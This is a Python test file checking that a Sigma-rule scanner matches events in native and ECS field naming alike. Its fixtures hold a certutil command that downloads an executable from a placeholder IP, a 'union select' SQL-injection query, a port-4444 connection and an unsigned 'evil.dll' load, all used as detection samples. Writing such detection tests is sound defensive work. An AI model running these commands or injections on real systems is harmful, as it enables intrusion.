"""One stored event matches rules in native and in ECS naming alike."""

from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest

from detections.scan import Scanner
from detections.sigma.yaml_reader import read_documents
from ir_platform.domain.event import batch_of
from tests.detections.making import a_rule, rules_from
from tests.support.builders import an_event

SYSMON = "Microsoft-Windows-Sysmon/Operational"

# category, how the rule is written natively and in ECS, the same event natively and in ECS
SAME: dict[str, tuple[str, dict[str, str], dict[str, str], dict[str, Any], dict[str, Any]]] = {
    "new process": (
        "{product: windows, category: process_creation}",
        {"Image|endswith": "\\certutil.exe", "CommandLine|contains": "urlcache", "ParentImage|endswith": "\\cmd.exe"},
        {
            "process.executable|endswith": "\\certutil.exe",
            "process.command_line|contains": "urlcache",
            "process.parent.executable|endswith": "\\cmd.exe",
        },
        {
            "Channel": SYSMON,
            "EventID": 1,
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "CommandLine": "certutil -urlcache -f http://198.51.100.7/a.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "winlog.channel": SYSMON,
            "event.code": "1",
            "process.executable": "C:\\Windows\\System32\\certutil.exe",
            "process.command_line": "certutil -urlcache -f http://198.51.100.7/a.exe",
            "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
        },
    ),
    "web request": (
        "{category: webserver}",
        {"cs-method": "GET", "cs-uri-query|contains": "union select", "sc-status": "200", "c-ip": "203.0.113.9"},
        {
            "http.request.method": "GET",
            "url.original|contains": "union select",
            "http.response.status_code": "200",
            "source.ip": "203.0.113.9",
        },
        {
            "event.dataset": "iis.access",
            "cs-method": "GET",
            "cs-uri-query": "/berita?id=1 union select 1",
            "sc-status": 200,
            "c-ip": "203.0.113.9",
        },
        {
            "event.dataset": "nginx.access",
            "http.request.method": "GET",
            "url.original": "/berita?id=1 union select 1",
            "http.response.status_code": 200,
            "source.ip": "203.0.113.9",
        },
    ),
    "name query": (
        "{category: dns}",
        {"query|endswith": ".example.test", "record_type": "TXT"},
        {"dns.question.name|endswith": ".example.test", "dns.question.type": "TXT"},
        {"event.dataset": "zeek.dns", "query": "a.example.test", "record_type": "TXT"},
        {"event.dataset": "dns", "dns.question.name": "a.example.test", "dns.question.type": "TXT"},
    ),
    "flow": (
        "{category: firewall}",
        {"src_ip": "10.1.2.3", "dst_ip": "203.0.113.9", "dst_port": "4444"},
        {"source.ip": "10.1.2.3", "destination.ip": "203.0.113.9", "destination.port": "4444"},
        {"event.dataset": "fortigate.traffic", "srcip": "10.1.2.3", "dstip": "203.0.113.9", "dstport": 4444},
        {"event.dataset": "flow", "source.ip": "10.1.2.3", "destination.ip": "203.0.113.9", "destination.port": 4444},
    ),
    "loaded library": (
        "{product: windows, category: image_load}",
        {"ImageLoaded|endswith": "\\evil.dll", "Signed": "false"},
        {"dll.path|endswith": "\\evil.dll"},
        {"Channel": SYSMON, "EventID": 7, "ImageLoaded": "C:\\Temp\\evil.dll", "Signed": "false"},
        {
            "winlog.channel": SYSMON,
            "event.code": "7",
            "dll.path": "C:\\Temp\\evil.dll",
            "file.code_signature.signed": False,
        },
    ),
}


def _rule(logsource: str, wanted: dict[str, str]) -> str:
    lines = "\n".join(f"  {name}: '{value}'" for name, value in wanted.items())
    return a_rule(f"s:\n{lines}\ncondition: s", logsource=logsource)


@pytest.mark.parametrize("kind", SAME)
@pytest.mark.parametrize("rule_is_native", [True, False])
@pytest.mark.parametrize("event_is_native", [True, False])
def test_the_same_event_matches_in_either_naming(
    tmp_path: Path, kind: str, rule_is_native: bool, event_is_native: bool
) -> None:
    logsource, native_rule, ecs_rule, native_event, ecs_event = SAME[kind]
    rules = rules_from(tmp_path, _rule(logsource, native_rule if rule_is_native else ecs_rule))
    event = an_event(**(native_event if event_is_native else ecs_event))

    found = Scanner(rules).scan(batch_of([event]))

    assert len(found) == 1


@pytest.mark.parametrize(
    ("logsource", "wanted", "fields"),
    [
        ("{product: zeek, service: smb_files}", {"name": "ADMIN$"}, {"zeek.smb_files.name": "ADMIN$"}),
        ("{product: zeek, service: dce_rpc}", {"operation": "Get"}, {"zeek.dce_rpc.operation": "Get"}),
        ("{product: aws, service: cloudtrail}", {"eventName": "StopLogging"}, {"event.action": "StopLogging"}),
    ],
)
def test_columns_that_our_readers_keep_under_the_name_of_their_log_are_found(
    tmp_path: Path, logsource: str, wanted: dict[str, str], fields: dict[str, Any]
) -> None:
    product, service = (part.split()[-1] for part in logsource.strip("{}").split(","))
    rules = rules_from(tmp_path, _rule(logsource, wanted))

    found = Scanner(rules).scan(batch_of([an_event(**{"event.dataset": f"{product}.{service}", **fields})]))

    assert len(found) == 1


def test_a_rule_about_who_acted_is_never_given_whom_it_was_done_to(tmp_path: Path) -> None:
    rules = rules_from(tmp_path, a_rule("s:\n  SubjectUserName: budi\ncondition: s"))
    event = an_event(**{"winlog.channel": "Security", "winlog.event_data.TargetUserName": "budi", "user.name": "budi"})

    assert Scanner(rules).scan(batch_of([event])) == ()


@pytest.mark.parametrize("table", ["fields.yaml", "logsources.yaml"])
def test_a_table_says_each_name_once(table: str) -> None:
    text = files("detections.sigma").joinpath("mapping", table).read_text(encoding="utf-8")

    assert len(read_documents(text)) == 1  # which refuses a name that is said twice: the later one would hide the first
